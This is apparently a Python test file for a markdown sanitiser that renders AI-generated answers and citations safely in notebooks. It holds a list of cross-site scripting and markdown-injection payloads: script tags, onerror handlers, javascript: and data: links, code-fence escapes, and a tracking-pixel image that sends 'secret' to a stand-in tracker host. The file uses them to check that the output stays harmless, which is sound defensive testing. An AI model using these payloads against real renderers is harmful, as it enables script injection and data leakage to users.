"""A result as a notebook, a file and a log show it: readable, short, and harmless whatever models and pages said."""

import html
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from fusion_tool.graph.result_text import harmless, to_markdown
from tests.unit.results import bill, citation, result, results

CODE = "```python\nif a<b: print('<b>', [x](y))\n```"
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a <!-- hidden --> b",
    "\\<script>alert(1)</script>",
    "![pixel](https://tracker.example/?q=secret)",
    "![pixel][1]\n\n[1]: https://tracker.example/?q=secret",
    "[click](javascript:alert(1))",
    "[click\\](javascript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](\njavascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](java\nscript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click][1]\n\n> [1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "~~~\n```\n~~~\n<script>alert(1)</script>\n```",
    "```\n   ```\n<script>alert(1)</script>\n```\n```",
    "```\n````\n<script>alert(1)</script>\n```",
    "``` a b\n```\n<script>alert(1)</script>\n```\n",
    "$$\n```\n$$\n<script>alert(1)</script>\n```",
    "    ```\n<script>alert(1)</script>\n    ```",
    "```\n<script>alert(1)</script>",
    "x\u2028```\n<script>alert(1)</script>\n```\u2028",
    "`\na `<script>alert(1)</script>` b",
    "\\`<script>alert(1)</script>`",
    "``<script>alert(1)</script>`",
    "a ` b ` `<script>alert(1)</script>",
    "[x](https://a.org/` )<script>alert(1)</script>`",
    '[x](https://a.org "\n` ")<script>alert(1)</script>`',
    "[click][`]\n\n[`]: javascript:alert(1) '`'",
    "| a | b |\n|---|---|\n| `x | y` `<script>alert(1)</script>` |",
    "`<script>alert(1)</script>` `",
]
_RAW = re.compile(r"<(script|img|!--|java)|href=\"(?!https?:)", re.IGNORECASE)
# As a notebook's export reads it: HTML stays HTML, and a link leads anywhere.
READER = MarkdownIt("commonmark", {"html": True}).enable("table")
READER.validateLink = lambda _: True  # type: ignore[method-assign] # documented as the way to set it


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_does_nothing_in_an_answer_or_a_title(text):
    assert not _RAW.search(READER.render(harmless(text))), harmless(text)
    shown = to_markdown(result(answer=text, question=text, citations=[citation(1, title=text, url=text)]))
    assert not _RAW.search(READER.render(shown)), shown
    assert "![" not in shown


@given(
    st.lists(
        st.sampled_from(
            [
                *HOSTILE,
                "\n",
                "\n\n",
                "`",
                "` ",
                "`<script>`",
                "[a](https://a.org",
                ' "',
                ")",
                "|",
                "<script>",
                "```",
                "~~~",
                "> ",
                "- ",
                "    ",
                "\\",
                "$$",
                "x",
            ]
        ),
        max_size=8,
    )
)
def test_nor_does_what_is_made_of_it(parts):
    assert not _RAW.search(READER.render(harmless("".join(parts))))


UNCLOSED = ["x\n\n```", "```python\nx = 1", "~~~~ a\n~~~", "````\n```\n", "```\na\n```\n\n```"]


@pytest.mark.parametrize("text", UNCLOSED)
def test_code_that_an_answer_left_open_ends_with_it(text):
    shown = READER.render(to_markdown(result(answer=text, citations=[citation(1)])))
    assert "<strong>Sources</strong>" in shown


def test_plain_markdown_and_code_stay_as_they_are():
    text = (
        f"# Title\n\n- 3 < 4, **bold** [1], [a page](https://example.org)\n\n{CODE}\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Use `List<T>` here", "Use `List<T>` here"),
        ("A <T> and `List<T>`", "A &lt;T> and `List<T>`"),
        ("- `a<b>`\n- (`</p>`)", "- `a<b>`\n- (`</p>`)"),
        ("| `a<b>` | `c` |", "| `a<b>` | `c` |"),
        ("It costs 5 [1].\n\n`x <y`", "It costs 5 [1].\n\n`x <y`"),
        ("Half `of <b> it", "Half `of &lt;b> it"),
    ],
)
def test_code_in_a_line_stays_as_it_is(text, shown):
    assert harmless(text) == shown


def test_it_is_read_with_its_sources_and_what_it_cost():
    shown = to_markdown(
        result(answer="Titan [1].", citations=[citation(1, title="Moons *of* Saturn")], usage=bill(0.5, None))
    )
    assert shown == (
        "Titan [1].\n\n**Sources**\n\n1. [Moons \\*of\\* Saturn](https://example.org/mill): supported\n\n"
        "*ok, 0 of 2 seats, 1 source cited, \\$0.5000 + 1 of unknown cost, 1.2 s, run run-1*\n"
    )
    assert html.unescape(READER.render(shown)).count("Moons *of* Saturn") == 1


@given(results)
def test_the_object_is_one_short_line(one):
    assert repr(one) == str(one)
    assert "\n" not in repr(one)
    assert len(repr(one)) < 500
    assert one.run_id[:8] in repr(one)


def test_a_notebook_shows_the_markdown():
    shown = {name: getattr(result(), name, None) for name in ("_repr_markdown_", "_repr_html_", "_repr_mimebundle_")}
    assert [name for name, method in shown.items() if method] == ["_repr_markdown_"]
    assert shown["_repr_markdown_"]() == to_markdown(result())
